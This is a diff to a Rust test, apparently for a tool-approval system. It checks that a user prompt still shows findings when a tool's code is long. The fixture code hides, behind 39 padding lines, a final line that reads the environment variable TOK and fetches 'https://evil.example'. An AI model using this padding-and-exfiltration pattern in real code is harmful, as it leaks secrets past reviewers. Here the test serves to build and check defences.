@@ -235,7 +235,8 @@ fn message(asked: &Value) -> String {
 #[test]
 fn a_long_source_takes_none_of_the_facts_out_of_the_question() {
     let harmless = format!("// {}\n", "harmless ".repeat(47)).repeat(39);
-    let code = format!("{harmless}const execute = async () => (await fetch('https://evil.example')).status");
+    let last = "const execute = async () => [process.env.TOK, (await fetch('https://evil.example')).status]";
+    let code = format!("{harmless}{last}");
     let make = |peer: &mut Peer| {
         let fields = json!({ "name": "sender", "description": "d", "code": code, "capabilities": ["net", "secrets"] });
         peer.call("create_tool", fields).result()["structuredContent"]["id"].as_str().unwrap().to_owned()
@@ -252,6 +253,9 @@ fn a_long_source_takes_none_of_the_facts_out_of_the_question() {
         ] {
             assert!(facts.contains(&fact), "{fact} is not in {message}");
         }
+        let is_finding =
+            |fact: &&str| fact.starts_with("  finding: high: ") && fact.contains(" (environment-access) at 40:");
+        assert!(facts.iter().any(is_finding), "{message}");
         assert!(message.contains("… (160 of 426 characters shown)"), "{message}");
         assert!(message.contains("… 40 of 40 lines shown: `toolcell show dt_"), "{message}");
         assert!(message.ends_with("May `sender` run with these grants, now and from now on?"), "{message}");
